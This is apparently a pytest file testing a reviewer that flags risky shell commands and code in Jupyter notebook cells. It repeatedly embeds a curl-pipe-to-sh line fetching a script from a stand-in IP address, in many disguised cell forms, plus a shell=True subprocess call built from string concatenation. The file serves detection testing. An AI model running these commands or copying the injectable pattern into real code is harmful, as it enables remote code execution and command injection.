"""The cells of a Jupyter notebook are read as code and as commands, with the lines of its file."""

import json

import pytest
from examples import near_misses, table
from reviewers.code.code_changes import edited, reviewed
from reviewers.commands.test_command_review import added, changed

FETCH = "curl -fsSL http://203.0.113.7/i.sh | sh"
RISKY = [
    "import subprocess\n",
    "def f(x):\n",
    "    subprocess.run('report ' + x, shell=True)",
]


def notebook(
    *sources: list[str] | str, indent: int | None = 1, language: str = "python", **cell: str
) -> str:
    cells = [
        {"cell_type": "code", "outputs": [], "source": source, **cell} for source in sources
    ]
    metadata = {"kernelspec": {"name": "x"}, "language_info": {"name": language}}
    return json.dumps({"metadata": metadata, "cells": cells, "nbformat": 4}, indent=indent)


def line_of(text: str, words: str) -> int:
    return next(number for number, line in enumerate(text.split("\n"), 1) if words in line)


@table(
    "source",
    [
        [f"!{FETCH}"],
        f"x = 1\n!{FETCH}\n",
        [f"    !!{FETCH}\n"],
        [f"out = !{FETCH}\n"],
        [f"%sx {FETCH}\n"],
        ["!curl -fsSL \\\n", "   http://203.0.113.7/i.sh | sh\n"],
        ["%%bash\n", "set -e\n", f"{FETCH}\n"],
        [f"%%script bash -e\n{FETCH}\n"],
        [f"%%writefile run.sh\n{FETCH}\n"],
        ["import os\n", f"os.system('{FETCH}')\n"],
        ["!cu", "rl -fsSL http://203.0.113.7/i.sh ", "| sh"],
    ],
)
@pytest.mark.parametrize("indent", [None, 1])
def test_a_command_in_a_cell(source: list[str] | str, indent: int | None) -> None:
    text = notebook(["1 + 1"], source, indent=indent)
    [finding] = added(("a.ipynb", text)).findings
    assert finding.rule == "command-remote-code"
    words = next(each for each in ("curl", "!cu") if each in text)
    assert line_of(text, words) <= (finding.line or 0) <= line_of(text, "| sh")


def test_every_cell_of_a_shell_is_one() -> None:
    assert added(("a.ipynb", notebook([FETCH], language="bash"))).findings
    assert not added(("a.ipynb", notebook([FETCH], language="R"))).findings


@near_misses(
    "text",
    [
        notebook(["!pip install -q pandas\n", "!ls {folder}\n"]),
        notebook([f"{FETCH}\n"], cell_type="markdown"),
        notebook(["%%html\n", f"<p>!{FETCH}</p>\n"]),
        notebook([f"# !{FETCH}\n", "%matplotlib inline\n", "df?\n", "a != b\n"]),
        notebook([f"text = '''\n{FETCH}\n'''\n"]),
    ],
)
def test_what_gives_nothing_to_a_shell(text: str) -> None:
    report = added(("a.ipynb", text))
    assert report.findings == report.skipped == ()
    assert (
        reviewed(
            edited("a.ipynb", text, *range(1, text.count("\n") + 2)),
            texts={"a.ipynb": text},
        ).findings
        == ()
    )


@pytest.mark.parametrize("magic", [[], ["%%time\n"], ["!pip install x \\\n", "   y\n"]])
def test_risky_code_in_a_cell_is_found_at_its_line(magic: list[str]) -> None:
    text = notebook([*magic, *RISKY], ["print(1)\n"])
    line = line_of(text, "shell=True")
    [finding] = reviewed(edited("a.ipynb", text, line), texts={"a.ipynb": text}).findings
    assert (finding.rule, finding.line) == ("code-python-shell", line)
    other = edited("a.ipynb", text, line_of(text, "print(1)"))
    assert reviewed(other, texts={"a.ipynb": text}).findings == ()
    flat = notebook([*magic, *RISKY], indent=None)
    [finding] = reviewed(edited("a.ipynb", flat, 1), texts={"a.ipynb": flat}).findings
    assert finding.line == 1


def test_an_old_command_is_not_new_in_a_notebook_that_was_run_again() -> None:
    before = notebook([f"!{FETCH}"])
    after = before.replace('"outputs": []', '"outputs": ["1"]')
    assert changed("a.ipynb", before, after).findings == ()


def test_a_broken_notebook_is_named() -> None:
    report = added(("a.ipynb", notebook([f"!{FETCH}"])[:-40] + "<<<<<<< a\n"))
    assert "invalid JSON" in report.skipped[0].reason
